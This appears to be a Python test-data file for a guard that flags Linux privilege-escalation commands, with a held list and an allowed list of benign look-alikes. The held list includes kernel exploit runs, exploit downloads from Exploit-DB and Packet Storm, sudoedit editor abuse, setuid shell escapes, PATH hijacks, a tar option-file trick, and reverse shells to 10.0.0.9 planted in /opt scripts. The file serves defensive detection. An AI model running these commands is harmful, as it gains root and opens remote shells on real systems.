"""Classes of Linux privilege escalation that fresh privesc write-ups got past the guards (helper privesc16).

First sight was measured on commands written from RoqueNight/Linux-Privilege-Escalation-Basics,
ilyess-sellami/Linux-Privilege-Escalation-Playbook, ramyardaneshgar's TryHackMe write-up and the
exploit names of jondonas/linux-exploit-suggester-2, plus session 13's held-out misses (kept outside the
repository: /work/realworld/privesc16 on the machine that measured them). The commands here are
variants written for the tests, not the ones measured:

- a local root exploit run or compiled under its published name (``./full-nelson``, ``raptor_prctl2``,
  ``mempodipper``): the name is the only tell; names that are ordinary words (``msr``, ``udev``) are not;
- an exploit fetched from an exploit archive (Exploit-DB, Packet Storm) or compiled from a source named
  as one (``gcc exploit.c -o x``);
- sudoedit (or ``sudo -e``) given an editor that is not one (``EDITOR=/tmp/x``, exported earlier in the
  line too): the program writes the copy sudo puts back as root;
- a copy of a system program with a shell escape run from the working directory or a shared one
  (``./vim -c ':!sh'``, ``/tmp/find -exec /bin/sh``): the copy is there for its setuid bit;
- a script that only starts a shell, written under a program's name (a PATH hijack) or into a script
  another account runs (under ``/opt``, ``/srv``, a program directory); a line setting the setuid bit on
  a shell written anywhere; text written under ``/opt`` judged as the command it is;
- a file named as a ``tar`` option whose value holds a slash (``--checkpoint-action=exec=/bin/sh``);
- BeRoot given a password to try on sudo.
"""

from __future__ import annotations

HELD = {
    "kernel exploit by name": [
        "./half_nelson3",
        "/tmp/mempodipper",
        "cd /tmp && ./vmsplice2",
        "timeout 60 ./sock_sendpage2",
        "./Full-Nelson",
        "bash -c ./american-sign-language",
        "gcc -o /dev/shm/jessica_biel vmsplice.c",
    ],
    "exploit fetched or built": [
        "curl -sL https://www.exploit-db.com/raw/40839 -o dirty.c",
        "wget http://dl.packetstormsecurity.net/1610-exploits/cowroot.c",
        "clang -O0 cve-2021-3156.c -o sudo_heap",
        "gcc -pthread pwnkit.c -o pk",
        "wget -q https://example.net/x.c -O ./exploit.c",
    ],
    "sudoedit editor": [
        "SUDO_EDITOR=/dev/shm/.e sudoedit /etc/shadow",
        "VISUAL=./rewrite.sh sudo -e /etc/passwd",
        "export VISUAL=/tmp/edit.sh && sudoedit /etc/sudoers.d/x",
        "EDITOR='sh -c \"cat /tmp/p > $1\"' sudoedit /etc/passwd",
    ],
    "setuid copy with a shell escape": [
        "./less /etc/profile",
        './python3 -c \'import os; os.execl("/bin/sh", "sh", "-p")\'',
        "/tmp/find /tmp -exec /bin/bash -p \\; -quit",
        "./awk 'BEGIN {system(\"/bin/sh\")}'",
    ],
    "shell left for another account": [
        "printf '#!/bin/sh\\n/bin/bash -p\\n' > /tmp/date",
        "echo 'exec /bin/sh' > /var/tmp/bin/whoami",
        "echo bash >> /srv/jobs/nightly",
        "echo 'chmod u+s /bin/dash' > notes.txt",
        "echo 'chmod 4755 /tmp/sh' >> /opt/app/hooks/post",
        "echo 'nc -e /bin/sh 10.0.0.9 9001' >> /opt/monitor/check",
        "tee /opt/svc/run <<< 'bash -i >& /dev/tcp/10.0.0.9/9001 0>&1'",
    ],
    "option-named file": [
        "touch -- '--checkpoint-action=exec=/usr/bin/sh'",
    ],
    "escalation kit told to attack": [
        "python3 BeRoot/beroot.py --password s3cret",
    ],
}

ALLOWED = [
    "./full_test_suite",
    "./udev --help",
    "./msr-tool list",
    "gcc -o exploit_check tests/exploit_check.c",
    "wget https://example.com/release.tar.gz -O release.tar.gz",
    "EDITOR=nano sudoedit /etc/hosts",
    "export EDITOR='code --wait'; sudoedit /etc/hosts",
    "./vim_plugin_test.sh",
    "./build/vim --version",
    "echo 'bash scripts/build.sh' > Makefile.inc",
    "echo '#!/bin/sh' > /tmp/ls.txt",
    "echo 'set -e' > /opt/app/settings.conf",
    "echo hello > /srv/www/index.txt",
    "printf 'bash\\n' > shells.txt",
    "touch -- -notes.md",
]
